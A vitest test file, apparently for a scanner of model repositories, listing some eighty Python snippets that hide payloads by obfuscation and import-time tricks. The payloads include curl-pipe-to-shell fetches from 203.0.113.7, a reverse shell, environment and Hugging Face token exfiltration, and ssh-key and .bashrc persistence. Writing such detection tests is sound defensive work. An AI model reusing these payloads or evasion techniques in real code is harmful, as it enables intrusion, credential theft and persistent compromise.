import { deflateSync } from "node:zlib";
import { describe } from "vitest";
import * as p from "../builders/pickle.js";
import { failing } from "./attack.js";

const base64 = (text: string | Uint8Array) => Buffer.from(text).toString("base64");
const PAYLOAD = "import os; os.system('curl http://203.0.113.7/x | sh')";

/** Attacks by Python source that lies beside a model, and that runs as it is imported. */
const SOURCES: Readonly<Record<string, string>> = {
  "the name of the function is reversed": "import os\ngetattr(os, 'metsys'[::-1])('curl http://203.0.113.7/x|sh')\n",
  "the module's name is a list of numbers":
    "m = ''.join(map(chr, [111, 115]))\n__import__(m).system('curl http://203.0.113.7/x|sh')\n",
  "the module's name is rot13":
    "import codecs\n__import__(codecs.decode('bf', 'rot13')).system('curl http://203.0.113.7/x|sh')\n",
  "the code is a base64 text inside a default argument": `def forward(x, _=exec(__import__('base64').b64decode('${base64(PAYLOAD)}'))):\n    return x\n`,
  "the code is a decorator's argument": `import os\ndef deco(x):\n    return lambda f: f\n@deco(os.system('curl http://203.0.113.7/x|sh'))\ndef f():\n    pass\n`,
  "exec itself is the decorator": `@exec\n@lambda f: ${JSON.stringify(PAYLOAD)}\nclass X:\n    pass\n`,
  "the call stands in a class body":
    "import os\nclass Config:\n    value = os.system('curl http://203.0.113.7/x|sh')\n",
  "the call stands in a format string": "import os\nname = f\"{os.system('curl http://203.0.113.7/x|sh')}\"\n",
  "the call is bound by a walrus": "import os\nif (x := os.system)('curl http://203.0.113.7/x|sh'): pass\n",
  "the call is in a comprehension": "import os\n[f('curl http://203.0.113.7/x|sh') for f in [os.system]]\n",
  "the call is in a lambda that is called at once":
    "import os\n(lambda f: f('curl http://203.0.113.7/x|sh'))(os.system)\n",
  "the function comes out of a dictionary": "import os\nt = {'a': os.system}\nt['a']('curl http://203.0.113.7/x|sh')\n",
  "the function comes out of vars()": "import os\nvars(os)['sys' + 'tem']('curl http://203.0.113.7/x|sh')\n",
  "the function comes out of __dict__": "import os\nos.__dict__['system']('curl http://203.0.113.7/x|sh')\n",
  "the function comes out of __getattribute__":
    "import os\nos.__getattribute__('system')('curl http://203.0.113.7/x|sh')\n",
  "the module comes out of sys.modules": "import sys\nsys.modules['o' + 's'].system('curl http://203.0.113.7/x|sh')\n",
  "the module comes through another one": "import shutil\nshutil.os.system('curl http://203.0.113.7/x|sh')\n",
  "the module comes through a package of weights":
    "import torch\ntorch.serialization.os.system('curl http://203.0.113.7/x|sh')\n",
  "exec comes out of builtins by a computed name": `b = __builtins__\ne = getattr(b, 'ex' + 'ec') if not isinstance(b, dict) else b['exec']\ne(${JSON.stringify(PAYLOAD)})\n`,
  "exec comes out of globals": `globals()['__builtins__'].__dict__['exec'](${JSON.stringify(PAYLOAD)})\n`,
  "the module is loaded from a string with importlib":
    "import importlib\nimportlib.import_module('subprocess').call('curl http://203.0.113.7/x|sh', shell=True)\n",
  "the module is loaded by a hook": `import sys\nclass Hook:\n    def find_spec(self, name, path, target=None):\n        import os\n        os.system('curl http://203.0.113.7/x|sh')\nsys.meta_path.insert(0, Hook())\n`,
  "ctypes calls the C library": "import ctypes\nctypes.CDLL(None).system(b'curl http://203.0.113.7/x|sh')\n",
  "ctypes calls the C library by index":
    "import ctypes\nctypes.CDLL('libc.so.6')['system'](b'curl http://203.0.113.7/x|sh')\n",
  "a pickle in base64 is loaded": `import pickle, base64\npickle.loads(base64.b64decode('${base64(p.osSystem())}'))\n`,
  "a pickle in bytes is loaded by an alias": `from _pickle import loads as read\nread(b"cos\\nsystem\\n(S'id'\\ntR.")\n`,
  "a pickle is loaded by torch out of memory": `import torch, io\ntorch.load(io.BytesIO(b"cos\\nsystem\\n(S'id'\\ntR."), weights_only=False)\n`,
  "marshalled code is run": "import marshal, types, base64\nexec(marshal.loads(base64.b64decode('4wAAAAAAAAAA')))\n",
  "compressed code is run": `import zlib, base64\nexec(zlib.decompress(base64.b64decode('${base64(deflateSync(PAYLOAD))}')))\n`,
  "code in hexadecimal is run": `exec(bytes.fromhex('${Buffer.from(PAYLOAD).toString("hex")}'))\n`,
  "code by exclusive or is run": `k = 7\nexec(bytes(c ^ k for c in b${JSON.stringify([...PAYLOAD].map((c) => String.fromCharCode(c.charCodeAt(0) ^ 7)).join(""))}).decode())\n`,
  "the classes are walked":
    "[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == 'Popen'][0]('curl http://203.0.113.7/x|sh', shell=True)\n",
  "a module attribute calls when looked up":
    "import os\ndef __getattr__(name):\n    return os.system('curl http://203.0.113.7/x|sh')\n",
  "a metaclass runs the code":
    "import os\nclass M(type):\n    def __new__(cls, *a):\n        os.system('curl http://203.0.113.7/x|sh')\n        return super().__new__(cls, *a)\nclass Model(metaclass=M):\n    pass\n",
  "__init_subclass__ runs the code":
    "import os\nclass B:\n    def __init_subclass__(cls):\n        os.system('curl http://203.0.113.7/x|sh')\nclass Model(B):\n    pass\n",
  "an exception handler runs the code":
    "try:\n    import nothing_of_this_name\nexcept ImportError:\n    import os\n    os.system('curl http://203.0.113.7/x|sh')\n",
  "a context manager runs the code":
    "import os\nclass C:\n    def __enter__(self):\n        os.system('curl http://203.0.113.7/x|sh')\n    def __exit__(self, *a):\n        pass\nwith C():\n    pass\n",
  "a thread runs the code":
    "import threading, os\nthreading.Thread(target=lambda: os.system('curl http://203.0.113.7/x|sh')).start()\n",
  "identifiers are written in full width": "import os\nｏｓ.ｓｙｓｔｅｍ('curl http://203.0.113.7/x|sh')\n",
  "lines end with a form feed and backslashes": "import os\n\x0cos\\\n.system\\\n('curl http://203.0.113.7/x|sh')\n",
  "the call follows a thousand blanks": `x = 1${" ".repeat(2000)};import os;os.system('curl http://203.0.113.7/x|sh')\n`,
  "the command is an array with no shell":
    "import subprocess\nsubprocess.Popen(['python3', '-c', \"import socket,os,pty;s=socket.socket();s.connect(('203.0.113.7',4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('sh')\"])\n",
  "os.execvp replaces the process": "import os\nos.execvp('bash', ['bash', '-c', 'curl http://203.0.113.7/x|sh'])\n",
  "posix is imported directly": "import posix\nposix.system('curl http://203.0.113.7/x|sh')\n",
  "pip installs from an address": "import pip\npip.main(['install', 'https://203.0.113.7/x.whl'])\n",
  "runpy runs a downloaded file":
    "import runpy, urllib.request\nf, _ = urllib.request.urlretrieve('http://203.0.113.7/x.py')\nrunpy.run_path(f)\n",
  "the shell's start file is appended to":
    "with open(__import__('os').path.expanduser('~/.bashrc'), 'a') as f:\n    f.write('curl http://203.0.113.7/x|sh')\n",
  "a method writes an ssh key by pathlib":
    "from pathlib import Path\n(Path.home() / '.ssh' / 'authorized_keys').write_text('ssh-ed25519 AAAA attacker')\n",
  "a socket sends the environment":
    "import socket, os, json\ns = socket.create_connection(('203.0.113.7', 4444))\ns.sendall(json.dumps(dict(os.environ)).encode())\n",
  "the token of the hub is sent by urllib":
    "import os, urllib.request\nurllib.request.urlopen('http://203.0.113.7/?' + open(os.path.expanduser('~/.cache/huggingface/token')).read())\n",
  "yaml builds the object": "import yaml\nyaml.load(\"!!python/object/apply:os.system ['id']\", Loader=yaml.Loader)\n",
  "numexpr evaluates text":
    "import numexpr\nnumexpr.evaluate(\"__import__('os').system('curl http://203.0.113.7/x|sh')\")\n",
  "pandas evaluates text":
    "import pandas as pd\npd.eval(\"@__import__('os').system('curl http://203.0.113.7/x|sh')\", engine='python')\n",
  "type() makes the class":
    "import os\ntype('X', (), {'__del__': lambda s: os.system('curl http://203.0.113.7/x|sh')})()\n",
  "functools.partial and reduce call":
    "import functools, os\nfunctools.partial(os.system, 'curl http://203.0.113.7/x|sh')()\n",
  "operator.methodcaller calls":
    "import operator, os\noperator.methodcaller('system', 'curl http://203.0.113.7/x|sh')(os)\n",
  "operator.attrgetter finds":
    "import operator, os\noperator.attrgetter('system')(os)('curl http://203.0.113.7/x|sh')\n",
  "a loop imports several names":
    "for m, f in [('os', 'system')]:\n    getattr(__import__(m), f)('curl http://203.0.113.7/x|sh')\n",
  "setattr plants a function":
    "import os, builtins\nsetattr(builtins, 'print', os.system)\nprint('curl http://203.0.113.7/x|sh')\n",
  "an assignment plants a function": "import os, torch\ntorch.load = os.system\n",
  "the text is in the comments of the file": `import re\nexec(re.findall('#!(.*)', open(__file__).read())[0])\n#!${PAYLOAD}\n`,
  "the text is in the doc string": `"""${PAYLOAD}"""\nexec(__doc__)\n`,
  "the text is in a dictionary of characters": `d = {i: c for i, c in enumerate(${JSON.stringify([...PAYLOAD])})}\nexec(''.join(d[i] for i in sorted(d)))\n`,
  "the module is unpacked from a zip": "import zipimport\nzipimport.zipimporter('model.zip').load_module('x')\n",
  "the path is changed to a hidden folder": "import sys\nsys.path.insert(0, '/tmp/.x')\nimport helper_of_nobody\n",
  "the code runs at exit": "import atexit, os\natexit.register(os.system, 'curl http://203.0.113.7/x|sh')\n",
  "the code runs on a signal":
    "import signal, os\nsignal.signal(signal.SIGALRM, lambda *a: os.system('curl http://203.0.113.7/x|sh'))\nsignal.alarm(1)\n",
  "asyncio starts the process":
    "import asyncio\nasyncio.run(asyncio.create_subprocess_shell('curl http://203.0.113.7/x|sh'))\n",
  "multiprocessing starts the process":
    "import multiprocessing, os\nmultiprocessing.Process(target=os.system, args=('curl http://203.0.113.7/x|sh',)).start()\n",
  "cffi compiles C":
    "from cffi import FFI\nffi = FFI()\nffi.cdef('int system(const char *);')\nffi.dlopen(None).system(b'curl http://203.0.113.7/x|sh')\n",
  "torch compiles C++":
    "from torch.utils.cpp_extension import load_inline\nload_inline(name='x', cpp_sources='#include <cstdlib>\\nstatic int y = system(\"curl http://203.0.113.7/x|sh\");')\n",
  "the browser is opened": "import webbrowser\nwebbrowser.open('file:///etc/passwd')\n",
  "match and case hide it":
    "import os\nmatch 1:\n    case _ if os.system('curl http://203.0.113.7/x|sh'):\n        pass\n",
  "the annotation runs it": "import os\ndef f(x: os.system('curl http://203.0.113.7/x|sh')): pass\n",
  "a type alias or generic default runs it":
    "import os\nclass X[T = os.system]: pass\nx: os.system('curl http://203.0.113.7/x|sh') = 1\n",
  "a star argument runs it": "import os\nprint(*[os.system('curl http://203.0.113.7/x|sh')], **{})\n",
  "the encoding of the source is utf-7":
    "# -*- coding: utf-7 -*-\n#+AAo-import os;os.system('curl http://203.0.113.7/x|sh')\n",
  "the encoding of the source is unicode escapes":
    "# coding: raw_unicode_escape\n#\\u000aimport os;os.system('curl http://203.0.113.7/x|sh')\n",
  "the line ends are carriage returns": "# a comment\rimport os\ros.system('curl http://203.0.113.7/x|sh')\r",
  "the code stands behind if __name__":
    "import os\nif __name__ != '__main__':\n    os.system('curl http://203.0.113.7/x|sh')\n",
  "Python 2 code": "import os\nprint 'loading'\nexec \"os.system('curl http://203.0.113.7/x|sh')\"\n",
  "a syntax error follows the code only in old versions":
    "import os\nos.system('curl http://203.0.113.7/x|sh')\nprint 'x'\n",
  "indentation by tabs and blanks differs":
    "if 0:\n        pass\n\timport os\nimport os\nos.system('curl http://203.0.113.7/x|sh')\n",
  "a lazy import of importlib.util":
    "import importlib.util as u\ns = u.spec_from_file_location('x', '/tmp/x.py')\nm = u.module_from_spec(s)\ns.loader.exec_module(m)\n",
  "the loader is called on a text": `import importlib.machinery, importlib.util\nl = importlib.machinery.SourceFileLoader('x', 'weights.bin')\nl.load_module()\n`,
  "huggingface_hub downloads code and it is imported":
    "from huggingface_hub import hf_hub_download\nimport runpy\nrunpy.run_path(hf_hub_download('evil/repo', 'x.py'))\n",
};

describe("an attack by source code beside a model", () => {
  failing(Object.entries(SOURCES).map(([hope, source]) => ({ hope, name: "modeling_x.py", bytes: () => source })));
});
